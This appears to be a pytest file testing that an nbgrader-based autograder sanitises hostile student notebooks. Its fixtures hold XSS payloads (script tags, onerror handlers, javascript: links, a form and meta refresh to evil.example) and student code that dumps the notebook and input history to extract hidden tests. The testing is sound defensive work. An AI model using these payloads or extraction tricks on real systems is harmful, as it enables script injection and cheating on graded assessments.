"""Pages made from a student's notebook run nothing of the student's, and feedback quotes no hidden test.

A small class of 03_rnn_lstm is graded with autograder/grade.py (as `make grade` runs it): one student writes
hostile markdown and hostile outputs (HTML, JavaScript, SVG, Markdown, a widget), one prints its own notebook
file and IPython's input history, one registers a post_run_cell hook that prints every cell's source, test
cells included. The feedback pages must hold no executable markup of theirs and no hidden test line, while
the students' honest text, a figure and the visible checks' outputs are still there; formgrader's grading
page, served by the real Jupyter server, must hold no executable markup of theirs either.
"""

from __future__ import annotations

import json
import sys
from html.parser import HTMLParser

import nbformat
import pytest

from conftest import ROOT
from submissions import insert_code_cell, read_csv, solved, submit
from test_formgrader import Course, grade_class, isolated_env, served_grading_page

sys.path.insert(0, str(ROOT / "autograder"))
import inert  # noqa: E402

ASSIGNMENT = "03_rnn_lstm"
MARK = "PWN"  # in every hostile payload: found in an attribute, a script or a style, it could run

HOSTILE_MARKDOWN = f"""## My notes

HONEST-MARKDOWN: the LSTM keeps a **cell state** $\\mathbf{{C}}_t$ and three gates.

| gate | role |
|------|------|
| forget | HONEST-TABLE |

<script>alert("{MARK}-script")</script>
<img src=x onerror="alert('{MARK}-img')">
<iframe src="javascript:alert('{MARK}-iframe')"></iframe>
<a href="javascript:alert('{MARK}-link')">click me</a> <a href="data:text/html;base64,PHNjcmlwdD4=#{MARK}-data">data</a>
<svg onload="alert('{MARK}-svg')"><circle r="5"/></svg>
<form action="https://evil.example/{MARK}-form"><input name="{MARK}-input"><button>go</button></form>
<object data="{MARK}-object.swf"></object><embed src="{MARK}-embed.swf">
<style>body {{ display: none }} /* {MARK}-style */</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/{MARK}-meta"><base href="https://evil.example/{MARK}-base/">
<div style="position:fixed; top:0; width:100%; height:100%; background:url(https://evil.example/{MARK}-css)">cover</div>
<p onmouseover="alert('{MARK}-p')">HONEST-PARAGRAPH</p>
"""

# The marker is put together when the cell runs: the page shows the cell's source, and only its outputs are tested here.
HOSTILE_OUTPUTS = r"""from IPython.display import HTML, SVG, Javascript, Markdown, display
import ipywidgets

m = "PW" + "N"
display(HTML(f"<b>HONEST-HTML</b><img src=x onerror=\"alert('{m}-html')\"><script>alert('{m}-html-script')</script>"))
display(HTML(f"<p>isolated</p><script>alert('{m}-isolated')</script>"), metadata={"isolated": True})
display(Javascript(f"alert('{m}-js')"))
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('{m}-svg-output')\"><circle r='5'/></svg>"))
display(Markdown(f"**HONEST-MD** <script>alert('{m}-md')</script> [a link](javascript:alert('{m}-md-link'))"))
display(ipywidgets.HTML(value=f"<img src=x onerror=\"alert('{m}-widget')\">"))
print("HONEST-PRINT: my own output")
"""

PRINTS_NOTEBOOK = """import glob, json
for path in glob.glob("*.ipynb"):
    print(open(path).read())
print(json.dumps(In))
print(In)
"""

PRINTS_EVERY_CELL = 'get_ipython().events.register("post_run_cell", lambda result: print(result.info.raw_cell))'


def with_markdown_cell(notebook: nbformat.NotebookNode, after_grade_id: str, source: str) -> nbformat.NotebookNode:
    """`notebook` with a markdown cell of the student's after the cell `after_grade_id`."""
    index = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after_grade_id)
    notebook.cells.insert(index + 1, nbformat.v4.new_markdown_cell(source, id="student-notes"))
    return notebook


CLASS = {
    "hostile": lambda: insert_code_cell(with_markdown_cell(solved(ASSIGNMENT), "setup", HOSTILE_MARKDOWN), "setup", HOSTILE_OUTPUTS),
    "prints_notebook": lambda: insert_code_cell(solved(ASSIGNMENT), "test_lstm_lm", PRINTS_NOTEBOOK),
    "prints_every_cell": lambda: insert_code_cell(solved(ASSIGNMENT), "setup", PRINTS_EVERY_CELL),
}


def hidden_lines() -> list[str]:
    """The lines of the source's hidden tests that appear nowhere else in it (a line of a visible test is no secret)."""
    source = nbformat.read(ROOT / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    hidden, visible = set(), set()
    for cell in source.cells:
        inside = False
        for line in cell.source.splitlines():
            if "### BEGIN HIDDEN TESTS" in line or "### END HIDDEN TESTS" in line:
                inside = "BEGIN" in line
            elif line.strip():
                (hidden if inside else visible).add(line.strip())
    assert len(hidden - visible) > 20
    return sorted(hidden - visible)


class Page(HTMLParser):
    """What a browser would make of an HTML page: its elements with their attributes, the text of each script
    and style element, and the text a reader sees."""

    def __init__(self, markup: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.code: list[str] = []  # the text of script and style elements
        self.text: list[str] = []
        self._in_code = False
        self.feed(markup)
        self.close()
        self.all_text = "".join(self.text)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self._in_code = tag in ("script", "style")

    def handle_endtag(self, tag):
        self._in_code = False

    def handle_data(self, data):
        (self.code if self._in_code else self.text).append(data)


def executable_markup(markup: str) -> list[str]:
    """Everything in the page that came from a hostile payload and could run, fetch or navigate."""
    page = Page(markup)
    found = [f"<{tag} {name}={value!r}>" for tag, attrs in page.elements for name, value in attrs.items() if MARK in value]
    found += [f"<{tag}> element" for tag, attrs in page.elements if tag in ("svg", "iframe", "object", "embed", "base", "form")]
    found += [f"<meta http-equiv={attrs['http-equiv']!r}>" for tag, attrs in page.elements if tag == "meta" and "http-equiv" in attrs]
    found += [f"{tag} {name}={value!r}" for tag, attrs in page.elements for name, value in attrs.items()
              if name in ("href", "src", "action", "data") and value.strip().lower().startswith(("javascript:", "vbscript:", "data:text"))]
    found += [f"script or style holding {code.strip()[:80]!r}" for code in page.code if MARK in code]
    return found


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Course:
    root = tmp_path_factory.mktemp("inert")
    submitted, output = root / "submitted", root / "out"
    for student, build in CLASS.items():
        submit(submitted, student, ASSIGNMENT, build())
    return Course(submitted, output, isolated_env(root / "jupyter", submitted, output))


@pytest.fixture(scope="module")
def graded(course) -> dict:
    """The class graded once: grade.py's output, and each student's feedback page and autograded notebook."""
    run = grade_class(course)
    feedback = {s: (course.output / "feedback" / s / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text() for s in CLASS}
    autograded = {s: nbformat.read(course.output / "autograded" / s / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4) for s in CLASS}
    return {"run": run, "output": course.output, "feedback": feedback, "autograded": autograded}


@pytest.fixture(scope="module")
def grading_page(course, graded, tmp_path_factory) -> tuple[int, str]:
    """formgrader's grading page of the hostile submission, from the real Jupyter server."""
    return served_grading_page(course, ASSIGNMENT, "hostile", tmp_path_factory.mktemp("server") / "jupyter.log")


def printed(notebook: nbformat.NotebookNode) -> str:
    """Everything the notebook's cells output, as text."""
    return "\n".join(json.dumps(output) + output.get("text", "") for cell in notebook.cells if cell.cell_type == "code"
                     for output in cell.outputs)


def test_every_submission_is_graded_in_full(graded):
    rows = {row["student_id"]: row for row in read_csv(graded["output"] / "grades.csv")}
    assert sorted(rows) == sorted(CLASS)
    assert [s for s, row in rows.items() if float(row["score"]) != float(row["max_score"])] == []


def test_the_attacks_find_no_hidden_test_even_in_the_kernel(graded):
    """The kernel never receives the hidden tests (they run in the second pass): printing its notebook file or every
    cell's raw source shows none, even in the graded notebook, before any redaction. (The tests of RedactHiddenTests below cover the net.)"""
    lines = hidden_lines()
    for student in ("prints_notebook", "prints_every_cell"):
        outputs = printed(graded["autograded"][student])
        assert "def " in outputs or "checker" in outputs, student  # the attack ran and printed cells
        assert [line for line in lines if line in outputs or json.dumps(line)[1:-1] in outputs] == [], student


def test_feedback_runs_nothing_of_the_students(graded):
    for student, page in graded["feedback"].items():
        assert executable_markup(page) == [], student


def test_scripts_and_widgets_are_gone_from_feedback(graded):
    page = graded["feedback"]["hostile"]
    assert f"{MARK}-js" not in page and f"{MARK}-widget" not in page and f"{MARK}-svg-output" not in page
    assert "application/vnd.jupyter.widget" not in page  # neither a widget's view nor the notebook's widget state
    assert "[not shown here: a JavaScript output]" in page and "[not shown here: a widget]" in page


def test_feedback_keeps_the_honest_content(graded):
    page = graded["feedback"]["hostile"]
    text = Page(page).all_text
    for honest in ("HONEST-MARKDOWN", "HONEST-TABLE", "HONEST-PARAGRAPH", "HONEST-HTML", "HONEST-MD", "HONEST-PRINT: my own output",
                   "\\mathbf{C}_t", "click me"):
        assert honest in text, honest
    elements = Page(page).elements
    assert ("strong", {}) in elements and any(tag == "table" for tag, _ in elements) and ("b", {}) in elements
    assert any(tag == "img" and attrs.get("src", "").startswith("data:image/png;base64,") for tag, attrs in elements), "the loss plot"
    assert any(tag == "img" and attrs.get("src", "").startswith("data:image/svg+xml;base64,") for tag, attrs in elements), "the SVG"


def test_feedback_keeps_the_visible_checks_outputs(graded):
    visible = ["✓ rnn_forward agrees with nn.RNN", "✓ LSTMCell agrees with nn.LSTMCell",
               "✓ the formulas agree with the modules' parameter counts"]
    for student, page in graded["feedback"].items():
        text = Page(page).all_text
        assert [line for line in visible if line not in text] == [], student


def test_feedback_quotes_no_hidden_test(graded):
    lines = hidden_lines()
    for student, page in graded["feedback"].items():
        text = Page(page).all_text
        leaked = [line for line in lines if line in text or json.dumps(line)[1:-1] in text or line in page]
        assert leaked == [], student
        assert "check_hidden" not in text and "HIDDEN TESTS" not in text, student


def test_formgrader_runs_nothing_of_the_students(grading_page):
    status, page = grading_page
    assert status == 200
    assert executable_markup(page) == []
    assert f"{MARK}-js" not in page and f"{MARK}-widget" not in page


def test_formgrader_keeps_the_honest_content(grading_page):
    _, page = grading_page
    parsed = Page(page)
    for honest in ("HONEST-MARKDOWN", "HONEST-TABLE", "HONEST-HTML", "HONEST-MD", "HONEST-PRINT: my own output"):
        assert honest in parsed.all_text, honest
    assert any(tag == "img" and attrs.get("src", "").startswith("data:image/png;base64,") for tag, attrs in parsed.elements)


# --- the preprocessors on their own, without grading (fast) ---------------------------------------------

HIDDEN_CELL = """visible = check(1)
### BEGIN HIDDEN TESTS
for seed, (B, h) in [(7, (2, 3))]:
    checker.check_hidden(f"secret/{seed}", secret_function(seed, B, h), rtol=1e-6)
    x = f(y)
### END HIDDEN TESTS"""
SECRET = 'checker.check_hidden(f"secret/{seed}", secret_function(seed, B, h), rtol=1e-6)'


def test_hidden_lines_are_found_however_they_are_escaped():
    hidden = inert.HiddenLines([HIDDEN_CELL], min_length=12)
    for quoted in (SECRET, json.dumps(SECRET), repr(SECRET), SECRET.upper(), "\x1b[0;32m" + SECRET.replace("(", "\x1b[0m(") + "\x1b[0m",
                   SECRET.replace('"', "&quot;").replace("<", "&lt;"), json.dumps(json.dumps(SECRET)), "### BEGIN HIDDEN TESTS"):
        redacted, quoted_any = hidden.redact(f"before\n{quoted}\nafter\n")
        assert quoted_any and redacted == f"before\n{inert.REDACTED}\nafter\n", quoted
    assert hidden.redact("visible = check(1)\nloss 0.25\n") == ("visible = check(1)\nloss 0.25\n", False)


def test_a_hidden_line_split_over_lines_takes_the_whole_output():
    hidden = inert.HiddenLines([HIDDEN_CELL], min_length=12)
    redacted, quoted = hidden.redact(SECRET[:30] + "\n" + SECRET[30:] + "\nmy own text\n")
    assert quoted and redacted == inert.WHOLE_OUTPUT_REDACTED + "\n"


def test_short_hidden_lines_go_only_from_outputs_that_quote_a_long_one():
    hidden = inert.HiddenLines([HIDDEN_CELL], min_length=12)
    assert hidden.redact("x = f(y)\n") == ("x = f(y)\n", False)
    redacted, _ = hidden.redact(json.dumps([SECRET + "\n", "    x = f(y)\n"], indent=1))
    assert "f(y)" not in redacted and "secret_function" not in redacted


def test_markup_outputs_that_quote_a_hidden_line_are_dropped():
    hidden = inert.HiddenLines([HIDDEN_CELL], min_length=12)
    highlighted = "".join(f'<span class="n">{token}</span>' for token in SECRET.split("("))
    output = nbformat.v4.new_output("display_data", data={"text/html": highlighted, "text/plain": "<HTML object>"})
    assert inert.redact_output(output, hidden) and output.data == {"text/plain": "<HTML object>"}


def test_markdown_keeps_formatting_and_loses_anything_that_runs():
    source = ("**bold** $a<b$ [site](https://example.org) [mine](notes.html) [js](javascript:alert(1)) "
              '<span style="color: red; position: fixed; background-image: url(x)">red</span> '
              '<div class="score">spoof</div> <img src="data:text/html;base64,PHNjcmlwdD4=">')
    html_text = inert.inert_markdown(source).replace("&#10;", "\n")
    page = Page(html_text)
    assert ("strong", {}) in page.elements and ("math", {}) in page.elements and "a<b" in page.all_text
    assert ("a", {"href": "https://example.org"}) in page.elements and ("a", {}) in page.elements  # the others lose their href
    assert ("span", {"style": "color: red"}) in page.elements and ("div", {}) in page.elements
    assert ("img", {}) in page.elements


def test_scripted_outputs_become_a_note():
    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "HTML(value='...')"}
    for data in ({"application/javascript": "alert(1)"}, widget):
        output = inert.inert_output(nbformat.v4.new_output("display_data", data=data))
        assert list(output.data) == ["text/plain"] and output.data["text/plain"].startswith("[not shown here")
